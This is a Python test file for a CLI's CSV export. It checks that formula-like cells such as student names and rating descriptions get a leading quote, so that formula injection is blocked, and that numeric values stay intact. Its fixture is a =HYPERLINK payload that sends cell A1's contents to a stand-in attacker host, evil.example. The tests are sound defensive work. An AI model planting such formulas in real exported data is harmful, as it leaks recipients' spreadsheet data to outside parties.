"""`rollups --csv` cannot smuggle a spreadsheet formula: text cells starting like one are neutralised."""

from __future__ import annotations

import csv
import io

from tests import builders as b
from tests.conftest import mastery, write_jsonl

LINK = '=HYPERLINK("http://evil.example/?d="&A1,"click")'


def test_formula_like_text_cells_get_a_leading_quote_and_numbers_stay_numbers():
    from cli.render import csv_cell

    cells = [LINK, "+1", "-2+3", "@SUM(A1)", "\tx", "\rx", "Ximena", "a=b", -2.5, -3, 0.0, None]
    assert [csv_cell(c) for c in cells] == [
        "'" + LINK,
        "'+1",
        "'-2+3",
        "'@SUM(A1)",
        "'\tx",
        "'\rx",
        "Ximena",
        "a=b",
        -2.5,
        -3,
        0.0,
        "",
    ]


def test_rollups_csv_neutralises_names_and_rating_descriptions_but_not_a_negative_score(tmp_path):
    ratings = [
        {"description": LINK, "points": 5},
        {"description": "-2+3", "points": 3},
        {"description": "@below", "points": -5},
    ]
    events = [
        b.outcome("104", title="=HYPERLINK(1)", ratings=ratings),
        b.link("1", "104", "6", 0.5),
        b.result("104", "u1", 5, 1, course="6"),
        b.result("104", "u2", 3, 1, course="6"),
        b.result("104", "u3", -4, 1, course="6"),
    ]
    store = ("--store", str(tmp_path / "s.db"))
    assert mastery(*store, "ingest", str(write_jsonl(tmp_path / "in.jsonl", events)), check=True)
    roster = tmp_path / "roster.csv"
    roster.write_text(f'user_uuid,name,sis_id\nu1,"{LINK.replace(chr(34), chr(34) * 2)}",-2+3\nu2,Ximena,S-2\n')
    mastery(*store, "roster", "import", str(roster), check=True)
    out = mastery(*store, "rollups", "--course", "6", "--csv", check=True).stdout.decode()
    rows = list(csv.reader(io.StringIO(out)))
    assert rows == [
        ["student", "name", "sis_id", "score 104", "rating 104"],
        ["u1", "'" + LINK, "'-2+3", "5.0", "'" + LINK],
        ["u2", "Ximena", "S-2", "3.0", "'-2+3"],
        ["u3", "", "", "-4.0", "'@below"],
    ]
